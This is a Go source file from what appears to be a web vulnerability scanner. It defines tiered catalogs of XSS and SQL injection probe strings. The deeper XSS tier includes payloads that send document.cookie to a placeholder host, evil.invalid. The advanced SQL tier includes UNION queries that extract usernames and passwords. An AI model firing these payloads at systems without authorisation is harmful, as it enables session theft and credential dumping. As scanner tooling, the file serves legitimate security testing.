// Package payloads holds the static, leveled catalogs of test strings used by
// the probing pipeline. The tables are package-level values built once at
// init and never mutated; lookups return the same ordered sequence on every
// call. Each level is a strict superset of the level below it, growing in
// sophistication rather than just count.
package payloads

import "strings"

// XSSDepth selects how deep the XSS catalog goes.
type XSSDepth string

const (
	DepthShallow XSSDepth = "shallow"
	DepthNormal  XSSDepth = "normal"
	DepthDeep    XSSDepth = "deep"
)

// SQLiLevel selects how aggressive the SQL injection catalog is.
type SQLiLevel string

const (
	LevelBasic        SQLiLevel = "basic"
	LevelIntermediate SQLiLevel = "intermediate"
	LevelAdvanced     SQLiLevel = "advanced"
)

// xssCatalog is ordered from the cheapest, most reliable probes to evasion
// and exfiltration variants. The shallow set is the first 3 entries, normal
// the first 8, deep all 15. Payloads carry the literal "XSS" marker so the
// reflection detector can substitute a random token for confirmation.
var xssCatalog = []string{
	// shallow
	`<script>alert('XSS')</script>`,
	`<img src=x onerror=alert('XSS')>`,
	`<svg onload=alert('XSS')>`,
	// normal
	`"><script>alert('XSS')</script>`,
	`'><img src=x onerror=alert('XSS')>`,
	`<body onload=alert('XSS')>`,
	`<iframe src="javascript:alert('XSS')">`,
	`<details open ontoggle=alert('XSS')>`,
	// deep: case, encoding, and entity evasions plus exfiltration probes
	`<ScRiPt>alert('XSS')</ScRiPt>`,
	`%3Cscript%3Ealert('XSS')%3C%2Fscript%3E`,
	`&#60;script&#62;alert('XSS')&#60;/script&#62;`,
	`<svg><script>alert&lpar;'XSS'&rpar;</script>`,
	`javascript:alert('XSS')`,
	`<script>new Image().src='//evil.invalid/c?XSS='+document.cookie</script>`,
	`<img src=x onerror="fetch('//evil.invalid/x?XSS='+document.cookie)">`,
}

var xssDepthSize = map[XSSDepth]int{
	DepthShallow: 3,
	DepthNormal:  8,
	DepthDeep:    15,
}

// sqliCatalog grows from simple tautologies through comment and parenthesis
// variants to UNION and information-schema probes. Basic is the first 5
// entries, intermediate the first 10, advanced all 15.
var sqliCatalog = []string{
	// basic tautologies
	`' OR '1'='1`,
	`' OR 1=1--`,
	`" OR "1"="1`,
	`admin'--`,
	`'`,
	// intermediate
	`' OR '1'='1' --`,
	`') OR ('1'='1`,
	`1' ORDER BY 3--`,
	`' OR ''='`,
	`1' AND '1'='1`,
	// advanced: UNION and information-schema probes
	`' UNION SELECT NULL--`,
	`' UNION SELECT NULL,NULL,NULL--`,
	`' UNION SELECT username,password FROM users--`,
	`' AND (SELECT COUNT(*) FROM information_schema.tables)>0--`,
	`' UNION SELECT table_name,NULL FROM information_schema.tables--`,
}

var sqliLevelSize = map[SQLiLevel]int{
	LevelBasic:        5,
	LevelIntermediate: 10,
	LevelAdvanced:     15,
}

// ForXSS returns the ordered XSS payload list for depth. Unknown depths fall
// back to normal, matching what the dashboard sends by default.
func ForXSS(depth XSSDepth) []string {
	n, ok := xssDepthSize[depth]
	if !ok {
		n = xssDepthSize[DepthNormal]
	}
	return xssCatalog[:n:n]
}

// ForSQLi returns the ordered SQL injection payload list for level. Unknown
// levels fall back to basic.
func ForSQLi(level SQLiLevel) []string {
	n, ok := sqliLevelSize[level]
	if !ok {
		n = sqliLevelSize[LevelBasic]
	}
	return sqliCatalog[:n:n]
}

// ParseCustom splits a caller-supplied newline-delimited payload list,
// trimming whitespace and dropping blank lines. A non-empty result replaces
// the catalog entirely for that scan; there is no merge.
func ParseCustom(s string) []string {
	if s == "" {
		return nil
	}
	var out []string
	for _, line := range strings.Split(s, "\n") {
		line = strings.TrimSpace(line)
		if line != "" {
			out = append(out, line)
		}
	}
	return out
}

// ParseParamNames splits a comma-delimited parameter-name list, trimming and
// dropping empties.
func ParseParamNames(s string) []string {
	if s == "" {
		return nil
	}
	var out []string
	for _, name := range strings.Split(s, ",") {
		name = strings.TrimSpace(name)
		if name != "" {
			out = append(out, name)
		}
	}
	return out
}
